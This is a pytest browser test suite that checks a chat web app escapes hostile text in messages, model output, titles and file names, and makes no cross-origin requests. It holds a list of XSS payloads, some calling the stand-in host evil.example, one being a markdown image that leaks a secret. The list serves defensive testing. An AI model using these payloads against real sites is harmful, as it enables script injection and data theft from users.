"""Hostile text in a message, a title, a file name and the model's output runs no script and
loads nothing: checked with the page's CSP on, and again with CSP bypassed (so the page's own
escaping is what is tested, not the browser's policy)."""

from __future__ import annotations

from typing import Any

import pytest

from tests.browser.conftest import Browser, ask, drop_file, mark, open_app, wait_answer, wait_js

PAYLOADS = [
    '<script>window.__pwned = "script"</script>',
    "<img src=x onerror=\"window.__pwned = 'img'\">",
    '<img src="https://evil.example/pixel.png">',
    "![exfiltrate](https://evil.example/leak?secret=42)",
    '[click me](javascript:window.__pwned="link")',
    "[click me too](JaVaScRiPt:alert(1))",
    "[data](data:text/html,<script>alert(1)</script>)",
    "<svg onload=\"window.__pwned = 'svg'\"></svg>",
    '<iframe src="https://evil.example/frame"></iframe>',
    "<style>@import url(https://evil.example/x.css)</style>",
    '<link rel="stylesheet" href="https://evil.example/y.css">',
    '"><img src=x onerror=alert(1)>',
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action="https://evil.example"><button>go</button></form>',
    "<video><source onerror=alert(1)></video>",
    '<object data="https://evil.example/o.swf"></object>',
]
HOSTILE = "\n\n".join(PAYLOADS)
HOSTILE_FILENAME = '"><img src=x onerror=alert(1)><script>alert(2)<\\script>.md'

CHECK = """() => {
  // Everything that shows user-provided or model-provided text; the page's own icons are
  // <svg class="i"> (the sprite) and <svg class="logo">.
  const ownSvg = (el) => el.closest('svg.i, svg.logo') !== null;
  const regions = '#messages, #conversations, #title, #document-list, #uploads, #citation, #toast';
  const bad = [];
  for (const el of document.querySelectorAll(regions.split(', ').map((r) => r + ' *').join(', '))) {
    const tag = el.tagName.toLowerCase();
    if (['script', 'img', 'iframe', 'object', 'embed', 'video', 'audio', 'source', 'style', 'link', 'meta',
         'form', 'frame'].includes(tag)) bad.push('element ' + tag);
    if (['svg', 'use', 'path', 'rect', 'circle'].includes(tag) && !ownSvg(el)) bad.push('svg ' + tag);
    for (const attr of el.attributes) {
      if (attr.name.startsWith('on')) bad.push('handler ' + attr.name);
      if (attr.name === 'style') bad.push('style attribute');
    }
    // the citation dialog's own link to a pack's article: none, or a local /kb/ page
    const ownLink = el.id === 'citation-open' && /^(\\/kb\\/|$)/.test(el.getAttribute('href') || '');
    if (tag === 'a' && !ownLink && !/^https?:\\/\\//.test(el.getAttribute('href') || '')) bad.push('href ' + el.getAttribute('href'));
  }
  return { pwned: window.__pwned === undefined ? null : window.__pwned, bad };
}"""


def assert_clean(page: Any) -> None:
    result = page.evaluate(CHECK)
    assert result == {"pwned": None, "bad": []}


@pytest.mark.parametrize("bypass_csp", [False, True], ids=["with-csp", "without-csp"])
def test_hostile_message_title_and_model_output(browser: Browser, bypass_csp: bool) -> None:
    page = browser.new_page(bypass_csp=bypass_csp)
    open_app(page, browser.server.url)
    browser.app.state.engine.enqueue(HOSTILE, HOSTILE)
    ask(page, HOSTILE)
    answer = wait_answer(page)
    assert "<script>" in page.locator(".message.user .bubble").inner_text(), "user text is shown as typed"
    assert "exfiltrate" in answer.inner_text() and "click me" in answer.inner_text()
    assert page.locator("#conversations li").first.inner_text().strip().startswith("<script>")
    assert_clean(page)

    conversation = page.evaluate("location.hash").split("/")[-1]
    title = "<img src=x onerror=\"window.__pwned='title'\"> & <b>bold</b>"
    renamed = page.evaluate(
        "async ([id, title, csrf]) => (await fetch('/api/conversations/' + id, {method: 'PATCH',"
        " headers: {'Content-Type': 'application/json', 'X-CSRF-Token': csrf},"
        " body: JSON.stringify({title})})).status",
        [conversation, title, page.evaluate("fetch('/api/me').then(r => r.json()).then(m => m.csrf_token)")],
    )
    assert renamed == 200
    page.reload()
    page.wait_for_selector(".message.assistant")
    assert page.locator("#title").inner_text() == title
    mark(page)
    page.click(".message.assistant .regenerate")
    wait_answer(page)
    assert_clean(page)


@pytest.mark.parametrize("bypass_csp", [False, True], ids=["with-csp", "without-csp"])
def test_hostile_file_name(browser: Browser, bypass_csp: bool) -> None:
    page = browser.new_page(bypass_csp=bypass_csp)
    open_app(page, browser.server.url)
    drop_file(page, HOSTILE_FILENAME, "The vault code is 4321, written in the ledger.")
    wait_js(page, "document.querySelector('.upload.done, .upload.failed') !== null")
    page.click("#open-documents")
    page.wait_for_selector("#document-list li")
    # Chromium percent-encodes '"' in multipart file names; the rest arrives as typed.
    shown = HOSTILE_FILENAME.replace('"', "%22")
    assert page.locator("#document-list .name").inner_text() == shown
    assert_clean(page)
    page.click("#documents .close")
    ask(page, "What is the vault code in the ledger?")
    answer = wait_answer(page)
    answer.locator("button.cite").click()
    page.wait_for_selector("#citation-document mark")
    assert page.locator("#citation-source").inner_text() == shown
    assert_clean(page)


def test_the_page_makes_no_request_to_other_origins(browser: Browser) -> None:
    page = browser.new_page()
    open_app(page, browser.server.url)
    browser.app.state.engine.enqueue(HOSTILE)
    ask(page, "Show me everything")
    wait_answer(page)
    page.click("#open-documents")
    page.click("#documents .close")
    page.click("#open-keys")
    page.click("#keys .close")
    page.click("#toggle-theme")
    page.click("#toggle-lang")
    own = [u for u in browser.watch.requests if u.startswith(browser.server.url)]
    assert len(own) >= 10
    assert browser.watch.foreign == []
